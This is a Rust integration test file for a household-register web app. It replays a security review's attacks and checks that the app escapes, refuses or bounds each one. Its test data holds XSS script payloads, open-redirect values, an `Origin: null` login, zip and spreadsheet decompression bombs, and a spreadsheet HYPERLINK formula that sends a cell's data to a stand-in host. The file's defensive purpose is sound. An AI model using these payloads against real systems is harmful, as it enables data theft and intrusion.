@@ -1,0 +1,645 @@
+//! The attacks of the public-facing review, each replayed from outside against the whole router
+//! (in-process HTTP, a freshly seeded SQLite register), and what must happen instead: escaped
+//! text, bounded uploads, 4xx answers in the user's language, no panic, no leak.
+mod common;
+
+use axum::{
+    Router,
+    body::Body,
+    http::{Request, StatusCode, header},
+};
+use common::web::{app, get, post_form, send};
+use fupin::server::{auth, db::Db, seed};
+use http_body_util::BodyExt;
+use tower::ServiceExt;
+
+async fn seeded() -> (common::SqliteTest, Router) {
+    let t = common::sqlite().await;
+    seed::seed(&t.db, 400, &mut |_, _| {}).await.expect("seed");
+    seed::demo_users(&t.db).await.expect("demo users");
+    seed::demo_transparency(&t.db).await.expect("demo notices");
+    let app = app(t.db.clone());
+    (t, app)
+}
+
+async fn cookie_for(db: &Db, user: &str) -> String {
+    let (_, token) = auth::login(db, user, seed::DEMO_PASSWORD, "test")
+        .await
+        .expect("login");
+    format!("{}={token}", auth::COOKIE)
+}
+
+// Test-only SQL written in this file.
+async fn scalar(db: &Db, sql: &str) -> i64 {
+    let sql = sqlx::AssertSqlSafe(sql.to_string());
+    match db {
+        Db::Sqlite(p) => sqlx::query_scalar(sql).fetch_one(p).await.unwrap(),
+        Db::Postgres(p) => sqlx::query_scalar(sql).fetch_one(p).await.unwrap(),
+    }
+}
+
+async fn exec(db: &Db, sql: &str) {
+    let sql = sqlx::AssertSqlSafe(sql.to_string());
+    match db {
+        Db::Sqlite(p) => sqlx::query(sql).execute(p).await.map(|_| ()).unwrap(),
+        Db::Postgres(p) => sqlx::query(sql).execute(p).await.map(|_| ()).unwrap(),
+    }
+}
+
+/// No raw `<script>` of ours anywhere in the page, and the text shown escaped.
+fn assert_inert(html: &str, escaped: &str) {
+    assert!(!html.contains("<script>alert"), "raw script in the page: {html}");
+    assert!(html.contains(escaped), "expected {escaped} in {html}");
+}
+
+#[tokio::test]
+async fn injected_markup_is_shown_as_text_never_run() {
+    let (t, app) = seeded().await;
+    let db = &t.db;
+
+    // 2. Reflected into <title>: the search page (answers 400, its HTML must still be inert).
+    let (_, html) = send(
+        &app,
+        get("/search?q=%3C%2Ftitle%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
+    )
+    .await;
+    assert_inert(&html, "&lt;/title&gt;&lt;script&gt;");
+
+    // 3. Stored in a published work update's title: every visitor's <title>.
+    let id = scalar(db, "SELECT MIN(id) FROM work_update WHERE state = 'published'").await;
+    exec(
+        db,
+        &format!(
+            "UPDATE work_update SET title = '村务</title><script>alert(2)</script>' WHERE id = {id}"
+        ),
+    )
+    .await;
+    let (status, html) = send(&app, get(&format!("/updates/{id}"))).await;
+    assert_eq!(status, StatusCode::OK);
+    assert_inert(&html, "村务&lt;/title&gt;&lt;script&gt;alert(2)");
+    // The list shows the same title as text too.
+    let (_, html) = send(&app, get("/updates")).await;
+    assert!(!html.contains("<script>alert"), "{html}");
+
+    // 1. Reflected into the objection form's <textarea>: the URL no longer fills it at all, and
+    // a refused objection's own text comes back escaped.
+    let notice = scalar(db, "SELECT MIN(id) FROM notice").await;
+    let (_, html) = send(
+        &app,
+        get(&format!(
+            "/notices/{notice}?reason=%3C%2Ftextarea%3E%3Cscript%3Ealert(3)%3C%2Fscript%3E"
+        )),
+    )
+    .await;
+    assert!(!html.contains("<script>alert"), "{html}");
+    assert!(!html.contains("alert(3)"), "the URL's text is not shown: {html}");
+}
+
+#[tokio::test]
+async fn a_refused_objection_keeps_its_text_out_of_urls_and_shows_it_escaped() {
+    let (t, app) = seeded().await;
+    let notice = scalar(&t.db, "SELECT MIN(id) FROM notice").await;
+    let entry = scalar(
+        &t.db,
+        &format!("SELECT MIN(id) FROM notice_entry WHERE notice_id = {notice}"),
+    )
+    .await;
+    let secret = "</textarea><script>alert(4)</script>我的电话13812345678";
+    let form = format!(
+        "entry={entry}&reason={}&contact={}&token=bad&answer=1",
+        urlencode(secret),
+        urlencode("13812345678")
+    );
+    let res = app
+        .clone()
+        .oneshot(post_form(&format!("/notices/{notice}/objection"), &form))
+        .await
+        .unwrap();
+    assert_eq!(res.status(), StatusCode::SEE_OTHER);
+    let location = res.headers()[header::LOCATION].to_str().unwrap().to_string();
+    assert!(location.contains("error="), "{location}");
+    for leaked in ["13812345678", "script", "%E6%88%91"] {
+        assert!(!location.contains(leaked), "{leaked} in {location}");
+    }
+    let cookie = res.headers()[header::SET_COOKIE].to_str().unwrap();
+    assert!(cookie.contains("HttpOnly"), "{cookie}");
+    let cookie = cookie.split(';').next().unwrap().to_string();
+    let req = Request::get(&location)
+        .header(header::COOKIE, &cookie)
+        .body(Body::empty())
+        .unwrap();
+    let (status, html) = send(&app, req).await;
+    assert_eq!(status, StatusCode::OK);
+    assert_inert(&html, "&lt;/textarea&gt;&lt;script&gt;alert(4)");
+    assert!(html.contains(r#"value="13812345678""#), "the contact comes back too");
+    // Without the cookie (someone else with the same URL) nothing of it is shown.
+    let (_, html) = send(&app, get(&location)).await;
+    assert!(!html.contains("alert(4)") && !html.contains("13812345678"));
+}
+
+fn urlencode(s: &str) -> String {
+    s.bytes()
+        .map(|b| {
+            if b.is_ascii_alphanumeric() {
+                (b as char).to_string()
+            } else {
+                format!("%{b:02X}")
+            }
+        })
+        .collect()
+}
+
+fn upload(body: Body, cookie: Option<&str>) -> Request<Body> {
+    let mut req = Request::post("/api/staff/import?name=x.xlsx");
+    if let Some(c) = cookie {
+        req = req.header(header::COOKIE, c);
+    }
+    req.body(body).unwrap()
+}
+
+#[tokio::test]
+async fn hostile_uploads_are_refused_with_a_reason_and_the_server_lives() {
+    let (t, app) = seeded().await;
+    let clerk = cookie_for(&t.db, "demo-village").await;
+
+    // 4. A tiny workbook naming A1 and XFD1048576 (calamine's dense grid would take 512 GB).
+    let mut book = rust_xlsxwriter::Workbook::new();
+    let ws = book.add_worksheet();
+    ws.write_string(0, 0, "姓名").unwrap();
+    ws.write_string(1_048_575, 16_383, "x").unwrap();
+    let bomb = book.save_to_buffer().unwrap();
+    assert!(bomb.len() < 10_000, "{}", bomb.len());
+    let (status, body) = send(&app, upload(Body::from(bomb), Some(&clerk))).await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+    assert!(body.contains("file_too_many_rows"), "{body}");
+    assert!(body.contains(r#""token":null"#), "a refused file is not kept: {body}");
+
+    // 5. A CSV of nothing but commas: refused as one row far too wide, before it is read.
+    let commas = ",".repeat(4 * 1024 * 1024);
+    let (status, body) = send(&app, upload(Body::from(commas), Some(&clerk))).await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+    assert!(body.contains("file_row_too_wide"), "{body}");
+    // Rows of commas within the width: read, found empty.
+    let blank = (",".repeat(200) + "\n").repeat(10_000);
+    let (status, body) = send(&app, upload(Body::from(blank), Some(&clerk))).await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+    assert!(body.contains("file_empty"), "{body}");
+    // More rows than a file may have: refused as it is read.
+    let many = "a\n".repeat(600_000);
+    let (status, body) = send(&app, upload(Body::from(many), Some(&clerk))).await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+    assert!(body.contains("file_too_many_rows"), "{body}");
+
+    // Old Excel (.xls) is refused with a request to save as XLSX or CSV.
+    let (status, body) = send(
+        &app,
+        upload(Body::from(vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]), Some(&clerk)),
+    )
+    .await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+    assert!(body.contains("file_format"), "{body}");
+
+    // Over the upload limit: 413, decided from the declared length.
+    let req = Request::post("/api/staff/import?name=big.csv")
+        .header(header::COOKIE, &clerk)
+        .header(header::CONTENT_LENGTH, (64u64 << 20).to_string())
+        .body(Body::empty())
+        .unwrap();
+    let (status, _) = send(&app, req).await;
+    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE);
+
+    // 7. A cell of six Chinese characters (18 bytes, like an ID) in the dry run's report.
+    let file = "姓名,性别,与户主关系\n张三,男,不明不白关系\n";
+    let (status, body) = send(&app, upload(Body::from(file), Some(&clerk))).await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+
+    // The server still answers.
+    let (status, _) = send(&app, get("/healthz")).await;
+    assert_eq!(status, StatusCode::OK);
+}
+
+#[tokio::test]
+async fn the_session_is_checked_before_an_upload_is_read() {
+    let (_t, app) = seeded().await;
+    let polled = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
+    let seen = polled.clone();
+    let body = Body::from_stream(futures::stream::poll_fn(move |_| {
+        seen.store(true, std::sync::atomic::Ordering::SeqCst);
+        std::task::Poll::Ready(Some(Ok::<_, std::io::Error>(axum::body::Bytes::from(
+            vec![b','; 1 << 20],
+        ))))
+    }));
+    let res = app.clone().oneshot(upload(body, None)).await.unwrap();
+    assert_eq!(res.status(), StatusCode::UNAUTHORIZED);
+    assert!(
+        !polled.load(std::sync::atomic::Ordering::SeqCst),
+        "the body was read without a session"
+    );
+}
+
+#[tokio::test]
+async fn chinese_text_where_bytes_were_counted_does_not_panic() {
+    let (t, app) = seeded().await;
+    let clerk = cookie_for(&t.db, "demo-township").await;
+    // 7. 欧阳张王李赵 is 18 bytes: the ID check sliced it at byte 17.
+    let req = Request::post("/api/staff/find")
+        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
+        .header(header::COOKIE, &clerk)
+        .body(Body::from(format!("q={}", urlencode("欧阳张王李赵"))))
+        .unwrap();
+    let (status, body) = send(&app, req).await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+    let req = Request::get(format!("/staff?q={}", urlencode("欧阳张王李赵")))
+        .header(header::COOKIE, &clerk)
+        .body(Body::empty())
+        .unwrap();
+    let (status, _) = send(&app, req).await;
+    assert_eq!(status, StatusCode::OK);
+}
+
+#[tokio::test]
+async fn exports_are_bounded_inert_and_for_editors() {
+    let (t, app) = seeded().await;
+    let db = &t.db;
+
+    // 11. The whole register, no filter, no login: refused, in the reader's language.
+    let (status, text) = send(&app, get("/export/households.csv")).await;
+    assert_eq!(status, StatusCode::BAD_REQUEST);
+    assert!(text.contains("请选择一个村"), "{text}");
+    let req = Request::get("/export/households.csv")
+        .header(header::ACCEPT_LANGUAGE, "en-GB,en")
+        .body(Body::empty())
+        .unwrap();
+    let (status, text) = send(&app, req).await;
+    assert_eq!(status, StatusCode::BAD_REQUEST);
+    assert!(text.contains("Choose a village"), "{text}");
+    // A township alone is not a village either; a village is fine.
+    let village: String = match db {
+        Db::Sqlite(p) => sqlx::query_scalar("SELECT MIN(village_code) FROM household")
+            .fetch_one(p)
+            .await
+            .unwrap(),
+        Db::Postgres(_) => unreachable!(),
+    };
+    let (status, _) = send(
+        &app,
+        get(&format!("/export/households.csv?township={}000", &village[..9])),
+    )
+    .await;
+    assert_eq!(status, StatusCode::BAD_REQUEST);
+    let (status, _) = send(&app, get(&format!("/export/households.csv?village={village}"))).await;
+    assert_eq!(status, StatusCode::OK);
+
+    // 12. A helper cadre cannot export full details.
+    let cadre = cookie_for(db, "demo-cadre").await;
+    let req = Request::get("/staff/export/households.csv")
+        .header(header::COOKIE, &cadre)
+        .body(Body::empty())
+        .unwrap();
+    let (status, _) = send(&app, req).await;
+    assert_eq!(status, StatusCode::FORBIDDEN);
+
+    // 10. A formula in an address leaves the staff export as text, and re-imports as it was.
+    let formula = r#"=HYPERLINK("http://example.invalid/?d="&E2,"点此核对")"#;
+    exec(
+        db,
+        &format!(
+            "UPDATE household SET address = '{}' WHERE village_code = '{village}'",
+            formula.replace('\'', "''")
+        ),
+    )
+    .await;
+    let admin = cookie_for(db, "demo-admin").await;
+    let req = Request::get(format!("/staff/export/households.csv?village={village}"))
+        .header(header::COOKIE, &admin)
+        .body(Body::empty())
+        .unwrap();
+    let res = app.clone().oneshot(req).await.unwrap();
+    assert_eq!(res.status(), StatusCode::OK);
+    let bytes = res.into_body().collect().await.unwrap().to_bytes();
+    let csv = String::from_utf8_lossy(&bytes);
+    assert!(csv.contains("'=HYPERLINK"), "{csv}");
+    assert!(!csv.contains(",=HYPERLINK") && !csv.contains(",\"=HYPERLINK"), "{csv}");
+    let table = fupin::server::transfer::read_table(&bytes).unwrap();
+    assert!(
+        table
+            .lines()
+            .iter()
+            .any(|(_, cells)| cells.contains(&formula)),
+        "the apostrophe comes off on import"
+    );
+}
+
+#[tokio::test]
+async fn redirects_arguments_bodies_and_headers() {
+    let (t, app) = seeded().await;
+
+    // 13. A tab or a line break in `next` would lead the browser to another host, or answer 500.
+    for next in ["%2F%09%2Fother-host/x", "%2F%0A", "%2F%5Cother-host", "%2F%2Fother-host"] {
+        let res = app
+            .clone()
+            .oneshot(get(&format!("/lang/en?next={next}")))
+            .await
+            .unwrap();
+        assert_eq!(res.status(), StatusCode::SEE_OTHER, "{next}");
+        assert_eq!(res.headers()[header::LOCATION], "/", "{next}");
+    }
+
+    // 17. Arguments that do not decode: 400 with a code, not 500 with the decoder's text.
+    for form in ["q=%E5%BC%A0&page=abc", "page=2"] {
+        let (status, body) = send(&app, post_form("/api/search", form)).await;
+        assert_eq!(status, StatusCode::BAD_REQUEST, "{form}: {body}");
+        assert!(body.contains("bad_arguments"), "{body}");
+        assert!(!body.contains("invalid digit"), "{body}");
+    }
+    // An over-long body: 413.
+    let req = Request::post("/api/search")
+        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
+        .header(header::CONTENT_LENGTH, (8u64 << 20).to_string())
+        .body(Body::from(vec![b'a'; 8 << 20]))
+        .unwrap();
+    let (status, _) = send(&app, req).await;
+    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE);
+
+    // 21. `Origin: null` without Sec-Fetch-Site is another site's write.
+    let req = Request::post("/api/login")
+        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
+        .header(header::ORIGIN, "null")
+        .body(Body::from(format!(
+            "username=demo-admin&password={}",
+            seed::DEMO_PASSWORD
+        )))
+        .unwrap();
+    let res = app.clone().oneshot(req).await.unwrap();
+    assert_eq!(res.status(), StatusCode::FORBIDDEN);
+    assert!(res.headers().get(header::SET_COOKIE).is_none());
+
+    // 15. Security headers: pages carry a CSP whose nonce is the hydration script's.
+    let res = app.clone().oneshot(get("/")).await.unwrap();
+    let h = res.headers().clone();
+    assert_eq!(h[header::X_CONTENT_TYPE_OPTIONS], "nosniff");
+    assert_eq!(h[header::X_FRAME_OPTIONS], "DENY");
+    assert_eq!(h[header::REFERRER_POLICY], "same-origin");
+    let csp = h[header::CONTENT_SECURITY_POLICY].to_str().unwrap().to_string();
+    assert!(csp.contains("frame-ancestors 'none'"), "{csp}");
+    assert!(csp.contains("'wasm-unsafe-eval'"), "{csp}");
+    assert!(!csp.contains("'unsafe-inline'; img") || csp.contains("style-src 'self' 'unsafe-inline'"));
+    let nonce = csp
+        .split("'nonce-")
+        .nth(1)
+        .and_then(|r| r.split('\'').next())
+        .expect("a nonce")
+        .to_string();
+    let html = String::from_utf8(res.into_body().collect().await.unwrap().to_bytes().to_vec()).unwrap();
+    assert!(html.contains(&format!("nonce=\"{nonce}\"")), "{html}");
+    // Every inline script of the page carries it.
+    for script in html.split("<script").skip(1) {
+        let open = script.split('>').next().unwrap_or_default();
+        // (leptos_i18n leaves an empty placeholder, which a browser never runs)
+        let empty = script.starts_with("></script>");
+        assert!(open.contains("src=") || open.contains(&nonce) || empty, "<script{open}>");
+    }
+    // A second page gets another nonce.
+    let res = app.clone().oneshot(get("/")).await.unwrap();
+    let other = res.headers()[header::CONTENT_SECURITY_POLICY].to_str().unwrap().to_string();
+    assert_ne!(other, csp);
+    // Not a page: nothing may run.
+    let res = app.clone().oneshot(get("/healthz")).await.unwrap();
+    assert!(
+        res.headers()[header::CONTENT_SECURITY_POLICY]
+            .to_str()
+            .unwrap()
+            .starts_with("default-src 'none'")
+    );
+    drop(t);
+}
+
+/// 8. While another connection holds SQLite's write lock (a long import does), a login is
+/// answered quickly with 503 and `Retry-After`, in words the page can show — not a 500.
+#[tokio::test]
+async fn a_login_during_a_long_import_gets_a_retryable_503() {
+    let (t, app) = seeded().await;
+    let Db::Sqlite(pool) = &t.db else {
+        unreachable!()
+    };
+    let mut holder = pool.acquire().await.unwrap();
+    sqlx::query("BEGIN IMMEDIATE")
+        .execute(&mut *holder)
+        .await
+        .unwrap();
+    let started = std::time::Instant::now();
+    let req = post_form(
+        "/api/login",
+        &format!("username=demo-admin&password={}", seed::DEMO_PASSWORD),
+    );
+    let res = app.clone().oneshot(req).await.unwrap();
+    let waited = started.elapsed();
+    assert_eq!(res.status(), StatusCode::SERVICE_UNAVAILABLE);
+    let retry: u64 = res.headers()[header::RETRY_AFTER]
+        .to_str()
+        .unwrap()
+        .parse()
+        .unwrap();
+    assert!(retry >= 1);
+    let body = String::from_utf8(res.into_body().collect().await.unwrap().to_bytes().to_vec()).unwrap();
+    assert!(body.contains("busy"), "{body}");
+    assert!(waited < std::time::Duration::from_secs(9), "{waited:?}");
+    sqlx::query("ROLLBACK").execute(&mut *holder).await.unwrap();
+    drop(holder);
+    // Once the lock is free, the same login goes through.
+    let req = post_form(
+        "/api/login",
+        &format!("username=demo-admin&password={}", seed::DEMO_PASSWORD),
+    );
+    let (status, body) = send(&app, req).await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+}
+
+// ---- Parsers under random and hostile input: no panic, memory within a stated cap. ----
+
+mod parsers {
+    use fupin::{
+        model::{id_number, normalize_query, search::SearchTerm, transfer::Col, transparency, validate},
+        server::transfer::read_table,
+    };
+    use proptest::prelude::*;
+    use std::{
+        alloc::{GlobalAlloc, Layout, System},
+        cell::Cell,
+    };
+
+    /// Counts the bytes allocated by the current thread (the readers run on the test's thread).
+    struct Counting;
+
+    thread_local! {
+        static NOW: Cell<isize> = const { Cell::new(0) };
+        static PEAK: Cell<isize> = const { Cell::new(0) };
+    }
+
+    fn moved(delta: isize) {
+        let _ = NOW.try_with(|n| {
+            let v = n.get() + delta;
+            n.set(v);
+            let _ = PEAK.try_with(|p| p.set(p.get().max(v)));
+        });
+    }
+
+    unsafe impl GlobalAlloc for Counting {
+        unsafe fn alloc(&self, l: Layout) -> *mut u8 {
+            let p = unsafe { System.alloc(l) };
+            if !p.is_null() {
+                moved(l.size() as isize);
+            }
+            p
+        }
+        unsafe fn dealloc(&self, p: *mut u8, l: Layout) {
+            unsafe { System.dealloc(p, l) };
+            moved(-(l.size() as isize));
+        }
+        unsafe fn realloc(&self, p: *mut u8, l: Layout, new: usize) -> *mut u8 {
+            let q = unsafe { System.realloc(p, l, new) };
+            if !q.is_null() {
+                moved(new as isize - l.size() as isize);
+            }
+            q
+        }
+    }
+
+    #[global_allocator]
+    static ALLOC: Counting = Counting;
+
+    /// The most memory `f` held at once beyond what was held before it.
+    fn peak_during<T>(f: impl FnOnce() -> T) -> (usize, T) {
+        let start = NOW.with(Cell::get);
+        PEAK.with(|p| p.set(start));
+        let out = f();
+        let peak = PEAK.with(Cell::get) - start;
+        (peak.max(0) as usize, out)
+    }
+
+    /// The stated cap: ten times the file, plus a fixed 1 MiB for the readers' own buffers.
+    fn cap(len: usize) -> usize {
+        10 * len + (1 << 20)
+    }
+
+    fn xlsx(rows: u32, cols: u16, far: Option<(u32, u16)>) -> Vec<u8> {
+        let mut book = rust_xlsxwriter::Workbook::new();
+        let ws = book.add_worksheet();
+        for r in 0..rows {
+            for c in 0..cols {
+                ws.write_string(r, c, format!("{r}-{c}")).unwrap();
+            }
+        }
+        if let Some((r, c)) = far {
+            ws.write_string(r, c, "x").unwrap();
+        }
+        book.save_to_buffer().unwrap()
+    }
+
+    #[test]
+    fn hostile_files_stay_within_ten_times_their_size() {
+        let gbk = encoding_rs::GB18030.encode(&"张伟,男,龙溪村\n".repeat(60_000)).0.into_owned();
+        let cases: Vec<(&str, Vec<u8>)> = vec![
+            ("commas", vec![b','; 4 << 20]),
+            ("newlines", vec![b'\n'; 4 << 20]),
+            ("too many rows", b"a\n".repeat(2 << 20)),
+            ("one row of cells", b"a,".repeat(2 << 20)),
+            ("short rows", b"a\n".repeat(400_000)),
+            ("dense cells", ("a,".repeat(60) + "\n").repeat(30_000).into_bytes()),
+            ("empty cells", (",".repeat(63) + "a\n").repeat(60_000).into_bytes()),
+            ("quotes", b"\"\"\"\",".repeat(800_000)),
+            ("wide row", [vec![b','; 1 << 20], b"x\n".to_vec()].concat()),
+            ("wide rows", [vec![b','; 4000], b"x\n".to_vec()].concat().repeat(500)),
+            ("quoted line breaks", b"\"\n\n\n\",".repeat(600_000)),
+            ("GB18030 register", gbk),
+            ("XLSX A1 + XFD1048576", xlsx(1, 1, Some((1_048_575, 16_383)))),
+            ("XLSX far column", xlsx(1, 1, Some((10, 16_000)))),
+        ];
+        for (name, bytes) in cases {
+            let (peak, result) = peak_during(|| read_table(&bytes).map(|t| t.row_numbers().count()));
+            println!(
+                "{name}: {} bytes -> peak {} bytes ({:.1}x), {result:?}",
+                bytes.len(),
+                peak,
+                peak as f64 / bytes.len() as f64
+            );
+            assert!(peak <= cap(bytes.len()), "{name}: {peak} > {}", cap(bytes.len()));
+        }
+        // A real register as XLSX (figures printed: shared strings make it denser than CSV).
+        let book = xlsx(20_000, 6, None);
+        let (peak, rows) = peak_during(|| read_table(&book).map(|t| t.row_numbers().count()));
+        println!(
+            "XLSX 20,000 x 6: {} bytes -> peak {peak} bytes ({:.1}x), {rows:?}",
+            book.len(),
+            peak as f64 / book.len() as f64
+        );
+        assert_eq!(rows, Ok(20_000));
+    }
+
+    #[test]
+    fn a_zip_declaring_gigabytes_is_refused_before_it_is_inflated() {
+        // Highly compressible sheet XML: a few KB that would unpack to hundreds of MB.
+        use std::io::Write;
+        let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+        let opts = zip::write::SimpleFileOptions::default()
+            .compression_method(zip::CompressionMethod::Deflated);
+        zip.start_file("xl/worksheets/sheet1.xml", opts).unwrap();
+        let chunk = vec![b' '; 1 << 20];
+        for _ in 0..300 {
+            zip.write_all(&chunk).unwrap();
+        }
+        let bytes = zip.finish().unwrap().into_inner();
+        assert!(bytes.len() < 2 << 20, "{}", bytes.len());
+        let (peak, result) = peak_during(|| read_table(&bytes).map(|t| t.last_row()));
+        assert_eq!(result, Err("file_too_large"));
+        assert!(peak <= cap(bytes.len()), "{peak}");
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]
+
+        #[test]
+        fn text_rules_never_panic(s in "\\PC{0,40}", digits in "[0-9Xx\\- ０-９]{0,30}") {
+            for v in [s.as_str(), digits.as_str()] {
+                let _ = id_number::parse(v);
+                let _ = id_number::mask_id(v);
+                let _ = id_number::mask_phone(v);
+                let _ = validate::mobile(v);
+                let _ = transparency::personal_data(v);
+                let _ = Col::from_header(v);
+                if let Ok(Some(q)) = normalize_query(v) {
+                    let _ = SearchTerm::parse(&q);
+                }
+            }
+        }
+
+        #[test]
+        fn any_bytes_read_as_a_table_or_a_refusal(bytes in proptest::collection::vec(any::<u8>(), 0..2048)) {
+            let (peak, _) = peak_during(|| read_table(&bytes));
+            prop_assert!(peak <= cap(bytes.len()));
+        }
+
+        #[test]
+        fn csv_like_text_keeps_every_cell(rows in proptest::collection::vec(
+            proptest::collection::vec("[a-z张王李,\"\\n ]{0,6}", 0..8), 0..30)
+        ) {
+            let text: String = rows.iter().map(|r| r.join(",") + "\n").collect();
+            if let Ok(t) = read_table(text.as_bytes()) {
+                for n in t.row_numbers() {
+                    prop_assert!(!t.row(n).is_empty());
+                }
+            }
+        }
+
+        #[test]
+        fn an_id_masks_to_its_ends(seq in 0u16..999, year in 1930i32..2020, day in 1u32..28) {
+            let birth = chrono::NaiveDate::from_ymd_opt(year, 1 + (day % 12), day).unwrap();
+            let id = id_number::build("430581", birth, seq);
+            prop_assert!(id_number::parse(&id).is_ok());
+            prop_assert_eq!(transparency::personal_data(&format!("号码 {id}")), Err("personal_data"));
+            let masked = id_number::mask_id(&id);
+            prop_assert_eq!(masked.chars().count(), 18);
+            prop_assert!(!masked.contains(&id[6..14]));
+        }
+    }
+}
